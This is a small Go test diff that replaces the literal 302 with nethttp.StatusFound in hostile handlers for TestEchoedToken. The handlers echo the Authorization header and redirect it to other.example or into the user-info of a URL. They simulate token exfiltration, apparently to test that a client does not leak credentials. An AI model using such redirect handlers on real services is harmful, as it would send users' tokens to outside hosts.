@@ -102,10 +102,10 @@ func TestEchoedToken(t *testing.T) {
 			io.WriteString(w, r.Header.Get("Authorization"))
 		},
 		func(w nethttp.ResponseWriter, r *nethttp.Request) {
-			nethttp.Redirect(w, r, "http://other.example/?t="+url.QueryEscape(r.Header.Get("Authorization")), 302)
+			nethttp.Redirect(w, r, "http://other.example/?t="+url.QueryEscape(r.Header.Get("Authorization")), nethttp.StatusFound)
 		},
 		func(w nethttp.ResponseWriter, r *nethttp.Request) {
-			nethttp.Redirect(w, r, "https://"+url.UserPassword("u", token).String()+"@10.0.0.1/"+token, 302)
+			nethttp.Redirect(w, r, "https://"+url.UserPassword("u", token).String()+"@10.0.0.1/"+token, nethttp.StatusFound)
 		},
 	} {
 		store := hostile(t, h)
